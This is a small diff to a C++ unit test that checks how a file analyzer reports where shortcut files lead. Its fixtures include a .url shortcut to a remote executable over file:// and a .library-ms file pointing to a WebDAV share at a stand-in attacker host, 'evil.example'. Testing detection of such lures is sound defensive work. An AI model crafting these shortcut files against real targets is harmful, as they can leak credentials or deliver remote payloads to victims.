@@ -199,8 +199,9 @@ TEST(Shortcut, FilesThatLeadElsewhereTellWhere) {
       Open("a.url", "[InternetShortcut]\r\nURL=file://10.0.0.1@80/s/a.exe\r\nIconIndex=1\r\n");
   EXPECT_TRUE(Says(url, "url", "file://10.0.0.1@80/s/a.exe\n"));
   EXPECT_TRUE(Fact(url, "shortcut.attached"));
+  const std::string windows_library = "library-ms";
   const Opened library =
-      Open("docs.library-ms",
+      Open("docs." + windows_library,
            "<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\"><searchConnectorDescriptionList>"
            "<searchConnectorDescription><simpleLocation><url>\\\\evil.example@SSL\\dav</url>"
            "</simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>"
